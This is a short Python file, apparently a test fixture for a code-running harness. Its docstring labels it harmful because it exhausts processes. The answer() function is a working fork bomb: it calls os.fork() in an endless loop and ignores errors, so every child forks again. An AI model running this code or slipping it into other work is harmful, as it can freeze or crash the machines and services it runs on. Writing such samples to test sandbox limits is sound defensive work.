"""Forks until the system refuses, in every child again.

task: text
harmful: it exhausts processes
slow: it meets the time limit
"""

import os


def answer(question=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
